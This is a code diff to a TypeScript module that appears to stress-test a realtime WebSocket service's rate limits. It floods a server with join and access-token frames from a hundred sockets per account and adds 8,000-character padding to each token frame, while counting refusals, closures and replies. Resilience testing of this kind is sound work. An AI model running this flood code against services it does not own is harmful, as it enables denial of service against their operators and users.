@@ -17,27 +17,29 @@ export function floodJoins(attack: RealtimeAttack): Promise<unknown> {
   );
 }
 
-/** A hundred sockets of one account send tokens, below the 200 frames a second that 0.2.0 allowed each. */
+/** A hundred sockets of one account send tokens in large frames, below the 200 a second that 0.2.0 allowed each socket. */
 export function floodTokens(attack: RealtimeAttack): Promise<unknown> {
-  const payload = { access_token: attack.token };
-  const frame = { topic: "realtime:hostile-0", event: "access_token", payload, ref: "2", join_ref: "0" };
+  const payload = { access_token: attack.token, padding: "x".repeat(8_000) };
+  const topic = "realtime:hostile-0";
+  const frame = JSON.stringify({ topic, event: "access_token", payload, ref: "2", join_ref: "0" });
   return floodSockets(attack, { name: "realtime: tokens", sockets: 100, everyMs: 100, burst: 15 }, (n) =>
     n === 0 ? joinOf(attack.token, 0) : frame,
   );
 }
 
-function joinOf(token: string, n: number) {
+function joinOf(token: string, n: number): string {
   const config = { postgres_changes: [{ event: "*", schema: "public", table: "filter_settings" }] };
   const ref = String(n);
   const payload = { config, access_token: token };
-  return { topic: `realtime:hostile-${n % 90}`, event: "phx_join", payload, ref, join_ref: ref };
+  const topic = `realtime:hostile-${n % 90}`;
+  return JSON.stringify({ topic, event: "phx_join", payload, ref, join_ref: ref });
 }
 
 /** Keeps sockets open until the time is over and sends on each of them, whatever the answers; they are read and counted. */
 async function floodSockets(
   { url, publishableKey, address, counts, endAt }: RealtimeAttack,
   { name, sockets, everyMs, burst }: { name: string; sockets: number; everyMs: number; burst: number },
-  frameOf: (n: number) => object,
+  frameOf: (n: number) => string,
 ): Promise<void> {
   const tally = { sockets: 0, refused: 0, closed: 0, frames: 0, replies: 0 };
   counts[name] = tally;
@@ -58,7 +60,7 @@ async function floodSockets(
       if (await opened) tally.sockets += 1;
       else tally.refused += 1;
       for (let n = 0; socket.readyState === WebSocket.OPEN && Date.now() < endAt; n += 1) {
-        for (let sent = 0; sent < burst; sent += 1) socket.send(JSON.stringify(frameOf(n * burst + sent)));
+        for (let sent = 0; sent < burst; sent += 1) socket.send(frameOf(n * burst + sent));
         tally.frames += burst;
         await wait(everyMs);
       }
